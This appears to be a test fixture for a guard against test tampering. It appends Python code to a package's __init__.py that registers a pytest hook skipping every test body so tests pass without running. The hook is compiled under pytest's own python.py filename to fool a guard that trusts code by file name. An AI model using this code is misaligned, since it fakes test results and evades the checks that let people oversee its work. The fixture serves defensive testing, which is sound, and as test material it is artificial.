family: runtime
what: the package registers a hook that skips every test body, compiled under the file name of pytest's own python.py (the guard trusts code by file name)
--- append @PKG@/__init__.py
import os as _rt_o
import sys as _rt_s
import types as _rt_t

_RT_SRC = "def pytest_pyfunc_call(pyfuncitem):\n    return True\n"


def _rt_pluginmanager():
    f = _rt_s._getframe()
    while f is not None:
        for v in list(f.f_locals.values()):
            pm = getattr(getattr(v, "config", None), "pluginmanager", None)
            if pm is not None:
                return pm
        f = f.f_back
    return None


def _rt_install():
    import _pytest
    import pytest

    ns = {}
    exec(compile(_RT_SRC, _rt_o.path.join(_rt_o.path.dirname(_pytest.__file__), "python.py"), "exec"), ns)
    plugin = _rt_t.ModuleType("rt_skip_bodies")
    plugin.pytest_pyfunc_call = pytest.hookimpl(tryfirst=True)(ns["pytest_pyfunc_call"])
    pm = _rt_pluginmanager()
    if pm is not None:
        pm.register(plugin, "rt_skip_bodies")


if "_pytest" in _rt_s.modules:
    _rt_install()
